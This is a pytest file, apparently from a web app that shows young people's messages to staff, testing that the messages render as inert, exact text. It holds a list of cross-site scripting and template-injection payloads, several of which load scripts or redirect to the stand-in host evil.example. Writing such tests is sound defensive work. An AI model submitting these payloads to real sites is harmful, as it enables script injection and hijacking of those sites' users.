"""Words on a page: exact, inert, and with nothing hidden in them."""

from html.parser import HTMLParser

import pytest
from flask import Flask
from flask.testing import FlaskClient
from hypothesis import given
from hypothesis import strategies as st

from bot.service import Service
from tests.web.cast import Cast, sign_in, text
from tests.web.duty import DANGER, address_of
from web.words import BIDI_SIGNS, shown_words

PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<object data=data:text/html,hi>",
    "<embed src=//evil.example>",
    "<a href=javascript:alert(1)>press</a>",
    "<form action=//evil.example><button>Done</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)',
    "</textarea><img src=x onerror=alert(1)>",
    "</title><img src=x onerror=alert(1)>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "{{ 7 * 7 }}{% raw %}<b>x</b>",
    "${7*7}#{7*7}<%= 7*7 %>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x&#62;",
    "<\u202eimg src=x onerror=alert(1)>",
    "<mark>not marked by us</mark>",
    "https://evil.example/?q=<x> and www.evil.example",
]


class Reader(HTMLParser):
    """The elements of a page, and the text of those that hold a young person's words."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.words: list[str] = []
        self._depth = 0
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))
        if self._depth:
            self._depth += 1
        elif dict(attrs).get("class") == "app-words":
            self._depth = 1
            self.words.append("")

    def handle_endtag(self, tag: str) -> None:
        self._depth = max(self._depth - 1, 0)

    def handle_data(self, data: str) -> None:
        if self._depth:
            self.words[-1] += data


def elements_of(page: str) -> list[str]:
    return sorted({tag for tag, _ in Reader(page).elements})


def test_no_payload_is_more_than_text_on_any_page(
    app: Flask, client: FlaskClient, service: Service, cast: Cast
) -> None:
    duty, advocate = app.test_client(), app.test_client()
    sign_in(duty, cast.dee)
    sign_in(advocate, cast.ade)
    interview = f"/interviews/{cast.amina.interview_id}"
    text(client, service, DANGER)
    pages = ((duty, address_of(service)), (advocate, interview))
    before = [elements_of(reader.get(page).text) for reader, page in pages]

    for payload in PAYLOADS:
        text(client, service, f"{DANGER} {payload}")

    for (reader, page), expected in zip(pages, before, strict=True):
        shown = Reader(reader.get(page).text)
        more = set(elements_of(reader.get(page).text)) - set(expected)
        assert more <= {"span", "ul", "li", "q", "br"}
        assert not [attributes for _, attributes in shown.elements if _handlers(attributes)]
        for payload in PAYLOADS:
            seen = payload.replace("\u202e", "RLO")
            assert f"{DANGER} {seen}" in shown.words, payload


def _handlers(attributes: dict[str, str | None]) -> bool:
    return any(name.startswith("on") for name in attributes) or any(
        "evil" in (value or "") for value in attributes.values()
    )


def test_a_passage_is_marked_by_code_points() -> None:
    assert shown_words("🙂 he hit me", [(2, 8)]) == "🙂 <mark>he hit</mark> me"


def test_overlapping_and_touching_passages_are_one_mark() -> None:
    assert shown_words("abcdef", [(1, 3), (2, 4), (4, 5)]) == "a<mark>bcde</mark>f"


@pytest.mark.parametrize("span", [(0, 0), (3, 3), (5, 99), (-4, 0)])
def test_a_passage_of_nothing_marks_nothing_and_breaks_nothing(span: tuple[int, int]) -> None:
    assert "abc" in shown_words("abc", [span]).striptags()


@pytest.mark.parametrize("sign", BIDI_SIGNS)
def test_signs_that_steer_the_reading_direction_are_drawn(sign: str) -> None:
    shown = shown_words(f"a{sign}b")

    assert sign not in shown
    assert f'<span class="app-sign">{BIDI_SIGNS[sign]}</span>' in shown


def test_what_cannot_be_seen_is_drawn_and_what_belongs_to_a_language_stays() -> None:
    assert 'class="app-sign">U+0000</span>' in shown_words("a\x00b")
    assert 'class="app-sign">U+D800</span>' in shown_words("a\ud800b")
    family = "👩\u200d👧 مرحبا\nline\ttab"
    assert shown_words(family) == family


@given(
    st.text(st.characters(exclude_categories=["Cc", "Cs"], exclude_characters=list(BIDI_SIGNS))),
    st.lists(st.tuples(st.integers(0, 50), st.integers(0, 50))),
)
def test_whatever_is_marked_the_text_stays_exact(words: str, spans: list[tuple[int, int]]) -> None:
    shown = str(shown_words(words, spans)).replace("<mark>", "").replace("</mark>", "")

    assert shown == str(shown_words(words))
